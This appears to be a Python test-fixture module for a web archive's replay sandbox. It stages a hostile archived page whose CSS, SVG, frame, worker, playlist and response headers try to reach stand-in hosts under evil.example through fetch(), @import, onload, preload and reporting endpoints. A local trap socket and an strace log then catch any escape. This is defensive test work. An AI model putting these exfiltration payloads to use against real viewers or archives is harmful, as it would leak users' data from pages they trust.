"""A page that tries to get out, what watches it, and a browser as people have it.

The trap is where every name leads; the log of system calls is what the browser's processes really asked of the
network. Both are outside the browser.
"""

from __future__ import annotations

import fcntl
import functools
import os
import re
import shutil
import signal
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import uvicorn
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from archiver.browser.chromium import NAMES, OFF
from archiver.browser.devtools import DevTools
from archiver.browser.errors import BrowserError, PageError
from archiver.store import Archive
from tests.replay.staged import answer, png

CHROMIUM = next((path for name in NAMES if (path := shutil.which(name))), "")
STRACE = shutil.which("strace") if sys.platform == "linux" else None
AT = datetime(2024, 5, 6, 9, 30, tzinfo=UTC)
STAMP = "20240506093000"
PAGE = "http://evil.example/page"
VICTIM = "http://victim.example/secret"
SECRET = "the harbour master's private number"
SECONDS = 60.0


def hostile(port: int, victim_origin: str, *, seconds: int = 1) -> str:
    """A page with everything by which pages ask, send, open or go (hostile.html); each way leads to a host of its own
    name. `seconds` after it is loaded, it goes on of itself."""
    text = Path(__file__).with_name("hostile.html").read_text("utf-8")
    text = text.replace('content="1;', f'content="{seconds};', 1)
    text = text.replace("SITE", f"http://127.0.0.1:{port}").replace("VICTIM", victim_origin)
    return re.sub(r"@([a-z-]+)@", r"http://\1.evil.example/\1", text)


SHEET = (
    "@import url(http://sheet-import.evil.example/); body{margin:0} p{background:url(http://sheet-url.evil.example/)}"
    "s{background:\\75rl(http://sheet-escaped.evil.example/)}"
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"'
    ' onload="fetch(\'http://picture-onload.evil.example/\')"><script>fetch("http://picture-script.evil.example/")</script>'
    '<image href="http://picture-image.evil.example/" width="9" height="9"/><rect width="40" height="40" fill="teal"/>'
    '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="http://picture-html.evil.example/"/>'
    "</foreignObject><style>@import 'http://picture-style.evil.example/';</style></svg>"
)
PLAYLIST = "#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\nhttp://playlist.evil.example/1.ts\n#EXT-X-ENDLIST\n"
HEADERS = (
    ("Link", "<http://header-preload.evil.example/>; rel=preload; as=image"),
    ("Link", "<http://header-connect.evil.example>; rel=preconnect"),
    ("Refresh", "0;url=http://header-refresh.evil.example/"),
    ("Set-Cookie", "taken=1"),
    ("Speculation-Rules", '"http://header-speculation.evil.example/rules.json"'),
    ("Reporting-Endpoints", 'default="http://header-reporting.evil.example/"'),
    ("Report-To", '{"group":"default","max_age":9,"endpoints":[{"url":"https://header-report.evil.example/"}]}'),
    ("NEL", '{"report_to":"default","max_age":9,"success_fraction":1}'),
    ("Content-Security-Policy", "img-src *; report-uri http://header-policy.evil.example/"),
    ("Alt-Svc", 'h2="header-service.evil.example:443"'),
)
FRAME = (
    "<!doctype html><script>fetch('http://frame-script.evil.example/')</script><img src=http://frame-img.evil.example/>"
    "<meta http-equiv=refresh content='0;url=http://frame-refresh.evil.example/'><p>frame"
    "<a href=http://frame-link.evil.example/>frame link</a>"
)


def stage_hostile(path: Path, page: Callable[[str], str]) -> dict[str, str]:
    """An archive with the hostile page and its victim: record ids by URL. `page`: the page, made of the victim's."""
    things = [
        (VICTIM, f"<!doctype html><title>v</title><p>{SECRET}</p>".encode(), "text/html"),
        ("http://evil.example/sheet.css", SHEET.encode(), "text/css"),
        ("http://evil.example/picture.svg", SVG.encode(), "image/svg+xml"),
        ("http://evil.example/frame.html", FRAME.encode(), "text/html"),
        ("http://evil.example/worker.js", b"fetch('http://worker.evil.example/')", "text/javascript"),
        ("http://evil.example/real.png", png(8, 8), "image/png"),
        ("http://evil.example/list.m3u8", PLAYLIST.encode(), "video/mp4"),
    ]
    ids: dict[str, str] = {}
    with Archive.open(path, write=True, clock=lambda: AT) as archive, archive.session() as session:
        for url, data, kind in things:
            ids[url] = session.write_exchange(answer(url, data, kind, at=AT)).record_id
        data = page(ids[VICTIM]).encode()
        ids[PAGE] = session.write_exchange(answer(PAGE, data, "text/html", at=AT, extra=HEADERS)).record_id
    return ids


class Trap:
    """Where every name leads: a port on which whatever comes is noted."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0), backlog=256)
        self.port: int = self._listener.getsockname()[1]
        self._datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._datagrams.bind(("127.0.0.1", self.port))
        self._open = True
        self.caught: list[bytearray] = []
        """What came first over each connection, and each datagram; empty where nothing was said."""
        self._threads = [threading.Thread(target=target, daemon=True) for target in (self._accept, self._receive)]
        for thread in self._threads:
            thread.start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._read, args=(connection,), daemon=True).start()

    def _read(self, connection: socket.socket) -> None:
        said = bytearray()
        self.caught.append(said)  # a connection is caught before a word is said
        with connection, suppress(OSError):
            connection.settimeout(2)
            said += connection.recv(4096)
            if b" HTTP/1." in said:
                connection.sendall(
                    b"HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n"
                )

    def _receive(self) -> None:
        while True:
            try:
                data = self._datagrams.recv(4096)
            except OSError:
                return
            if not self._open:
                return
            self.caught.append(bytearray(data))

    def ways(self) -> set[str]:
        """The ways out that were found, by the name of their host."""
        return {found.decode() for data in self.caught for found in re.findall(rb"([a-z-]+)\.evil\.example", data)}

    def close(self) -> None:
        self._open = False
        for one in (self._listener, self._datagrams):
            with suppress(OSError):
                one.shutdown(socket.SHUT_RDWR)
            one.close()


class Log:
    """Notes what the site is asked; takes the policies from captured pages, where a test wants to see what they do."""

    def __init__(self, app: ASGIApp, *, policies: str = "all", alone: bool = False) -> None:
        """policies: `all`; `unboxed`, but for the sandbox; or `none`. alone: captured pages
        are given as if a frame had asked for them, though they are opened by themselves."""
        self.app = app
        self.policies = policies
        self.alone = alone
        self.asked: list[tuple[str, str, str]] = []
        """Host, path with query, `Sec-Fetch-Dest`."""

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        headers = {name.decode("latin-1"): value.decode("latin-1") for name, value in scope["headers"]}
        query = scope["query_string"].decode("latin-1")
        path = scope["raw_path"].decode("latin-1") + (f"?{query}" if query else "")
        self.asked.append((headers.get("host", ""), path, headers.get("sec-fetch-dest", "")))

        async def without_policy(message: Message) -> None:
            if message["type"] == "http.response.start":
                taken = (b"content-security-policy", b"x-dns-prefetch-control")
                kept = [(name, value) for name, value in message["headers"] if name.lower() not in taken]
                if self.policies == "unboxed":
                    policy = next(value for name, value in message["headers"] if name.lower() == taken[0])
                    kept.append((taken[0], re.sub(rb"^sandbox[^;]*; ", b"", policy)))
                message["headers"] = kept
            await send(message)

        if self.alone:
            kept = [(name, value) for name, value in scope["headers"] if name != b"sec-fetch-dest"]
            scope = {**scope, "headers": kept}
        captured = ".localhost" in headers.get("host", "")
        await self.app(scope, receive, without_policy if captured and self.policies != "all" else send)


@contextmanager
def serving(listener: socket.socket, app: ASGIApp) -> Iterator[None]:
    """The application on a socket that is bound already."""
    config = uvicorn.Config(app, http="h11", ws="none", lifespan="off", log_config=None, access_log=False)
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]})
    thread.start()
    try:
        while not server.started and thread.is_alive():
            time.sleep(0.01)
        yield
    finally:
        server.should_exit = True
        thread.join(30)


SWITCHES = (
    "--headless", "--remote-debugging-pipe", "--disable-gpu", "--no-first-run", "--no-default-browser-check",
    "--no-startup-window", "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--disable-default-apps", "--disable-extensions", "--disable-dev-shm-usage", "--password-store=basic",
    "--disable-domain-reliability", "--disable-client-side-phishing-detection", "--metrics-recording-only",
    f"--disable-features={','.join(OFF)}",
)  # fmt: skip
"""What the browser does of its own accord is off; what pages may do is on, as people have it."""


class Browser:
    """Chromium with one page, at a height at which nothing has to be scrolled.

    trap: the port that the tests' names lead to; null: they are looked up. Other names lead nowhere. calls: where the
    system calls of its processes that have to do with the network are written.
    """

    def __init__(self, folder: Path, *, trap: int | None, calls: Path | None = None) -> None:
        command = [CHROMIUM, *SWITCHES, f"--user-data-dir={folder}/profile"]
        hidden = f"MAP *.example 127.0.0.1:{trap}, MAP * ~NOTFOUND" if trap else "MAP * ~NOTFOUND, EXCLUDE *.example"
        here = "EXCLUDE localhost, EXCLUDE *.localhost, EXCLUDE 127.0.0.1"
        command.append(f"--host-resolver-rules={hidden}, {here}")
        if os.geteuid() == 0:
            command.append("--no-sandbox")
        if calls is not None:
            assert STRACE
            watched = "trace=connect,sendto,sendmsg,sendmmsg"
            command = [STRACE, "-f", "--seccomp-bpf", "-qq", "-s", "300", "-e", watched, "-o", str(calls), *command]
        self._pid = 0
        self.devtools = self._start(command, folder)
        self.frames: dict[str, str] = {}
        """Sessions of frames that have a process of their own, by their target."""
        self._at_rest: set[str] = set()
        self.session = ""
        self._target = ""
        self._loaded = threading.Event()

    def _start(self, command: list[str], folder: Path) -> DevTools:
        theirs_read, ours_write = os.pipe()
        ours_read, theirs_write = os.pipe()
        high_read, high_write = (fcntl.fcntl(fd, fcntl.F_DUPFD_CLOEXEC, 20) for fd in (theirs_read, theirs_write))
        os.close(theirs_read)
        os.close(theirs_write)
        environment = {**os.environ, "HOME": str(folder), "XDG_CONFIG_HOME": str(folder), "XDG_CACHE_HOME": str(folder)}
        actions = [
            (os.POSIX_SPAWN_OPEN, 0, os.devnull, os.O_RDONLY, 0),
            (os.POSIX_SPAWN_OPEN, 1, os.devnull, os.O_WRONLY, 0),
            (os.POSIX_SPAWN_OPEN, 2, os.devnull, os.O_WRONLY, 0),
            (os.POSIX_SPAWN_DUP2, high_read, 3),
            (os.POSIX_SPAWN_DUP2, high_write, 4),
        ]
        self._pid = os.posix_spawn(command[0], command, environment, file_actions=actions, setpgroup=0)
        os.close(high_read)
        os.close(high_write)
        return DevTools(ours_read, ours_write)

    def call(
        self, method: str, params: Mapping[str, Any] | None = None, *, session: str | None = None
    ) -> dict[str, Any]:
        return self.devtools.call(
            method,
            params,
            session=self.session if session is None else session or None,
            deadline=time.monotonic() + SECONDS,
        )

    def new_page(self) -> None:
        target = self.call("Target.createTarget", {"url": "about:blank"}, session="")
        self._target = target["targetId"]
        attached = self.call("Target.attachToTarget", {"targetId": self._target, "flatten": True}, session="")
        self.session = attached["sessionId"]
        self.devtools.listen(self.session, self._event)
        self.call("Page.enable")
        self.call("Target.setAutoAttach", {"autoAttach": True, "waitForDebuggerOnStart": True, "flatten": True})
        size = {"width": 1280, "height": 4000, "deviceScaleFactor": 1, "mobile": False}
        self.call("Emulation.setDeviceMetricsOverride", size)

    def _event(self, method: str, params: Any) -> None:
        if method == "Page.loadEventFired":
            self._loaded.set()
        elif method == "Target.attachedToTarget":
            session, target = params["sessionId"], params["targetInfo"]["targetId"]
            self.devtools.listen(session, functools.partial(self._frame_event, session, target))
            self.devtools.send("Page.enable", session=session)
            self.devtools.send("Page.setLifecycleEventsEnabled", {"enabled": True}, session=session)
            self.devtools.send("Runtime.runIfWaitingForDebugger", session=session)
            self.frames[target] = session

    def _frame_event(self, session: str, target: str, method: str, params: Any) -> None:
        if method == "Page.lifecycleEvent" and params["frameId"] == target:
            if params["name"] == "commit":
                self._at_rest.discard(session)
            elif params["name"] == "networkIdle":
                self._at_rest.add(session)

    def open(self, address: str) -> None:
        self.frames.clear()
        self._loaded.clear()
        answered = self.call("Page.navigate", {"url": address})
        assert not answered.get("errorText"), answered
        assert self._loaded.wait(SECONDS), f"{address} was not loaded"

    def address(self) -> str:
        """What the page shows, or is on its way to."""
        targets = self.call("Target.getTargets", session="")["targetInfos"]
        return str(next(one["url"] for one in targets if one["targetId"] == self._target))

    def pages(self) -> int:
        return sum(one["type"] == "page" for one in self.call("Target.getTargets", session="")["targetInfos"])

    def frame(self, part: str) -> str:
        """The session of the frame that has this in its address."""

        def find() -> str:
            # without a filter, frames are left out
            everything = {"filter": [{}]}
            for one in self.call("Target.getTargets", everything, session="")["targetInfos"]:
                if part in one["url"] and one["targetId"] in self.frames:
                    return self.frames[one["targetId"]]
            return ""

        return str(waited(find, f"frame {part}"))

    def wait_for_rest(self, session: str) -> None:
        """Until a frame's page was loaded and has asked for nothing for half a second: what it does of itself once it
        is there, it has tried."""
        waited(lambda: session in self._at_rest, "the frame is at rest")

    def text(self, session: str) -> str:
        """What a reader sees of a page, by its layout: no script is needed."""
        shot = self.call("DOMSnapshot.captureSnapshot", {"computedStyles": []}, session=session)
        strings = shot["strings"]
        return " ".join(strings[at] for page in shot["documents"] for at in page["layout"]["text"] if at >= 0)

    def corner(self, session: str, selector: str) -> tuple[float, float]:
        """Where the first of what a selector names begins, within its border."""
        root = self.call("DOM.getDocument", {"depth": 0}, session=session)["root"]["nodeId"]
        node = self.call("DOM.querySelector", {"nodeId": root, "selector": selector}, session=session)["nodeId"]
        quad = self.call("DOM.getContentQuads", {"nodeId": node}, session=session)["quads"][0]
        return quad[0], quad[1]

    def middles(self, session: str, selector: str) -> list[tuple[float, float]]:
        """The middles of what a selector names, within the page of this session."""
        root = self.call("DOM.getDocument", {"depth": 0}, session=session)["root"]["nodeId"]
        found = self.call("DOM.querySelectorAll", {"nodeId": root, "selector": selector}, session=session)["nodeIds"]
        middles = []
        for node in found:
            with suppress(PageError):  # without a box
                quads = self.call("DOM.getContentQuads", {"nodeId": node}, session=session)["quads"]
                if quads:
                    middles.append((sum(quads[0][0::2]) / 4, sum(quads[0][1::2]) / 4))
        return middles

    def click(self, x: float, y: float) -> None:
        for kind in ("mousePressed", "mouseReleased"):
            self.call("Input.dispatchMouseEvent", {"type": kind, "x": x, "y": y, "button": "left", "clickCount": 1})

    def close(self) -> None:
        with suppress(BrowserError):
            self.devtools.send("Browser.close")
        self.devtools.wait_for_end(10)
        self.devtools.close()
        with suppress(OSError):
            os.killpg(self._pid, signal.SIGKILL)
        with suppress(ChildProcessError):
            os.waitpid(self._pid, 0)


def waited(condition: Callable[[], Any], what: str, seconds: float = SECONDS) -> Any:
    until = time.monotonic() + seconds
    while not (value := condition()):
        assert time.monotonic() < until, f"not in time: {what}"
        time.sleep(0.05)
    return value
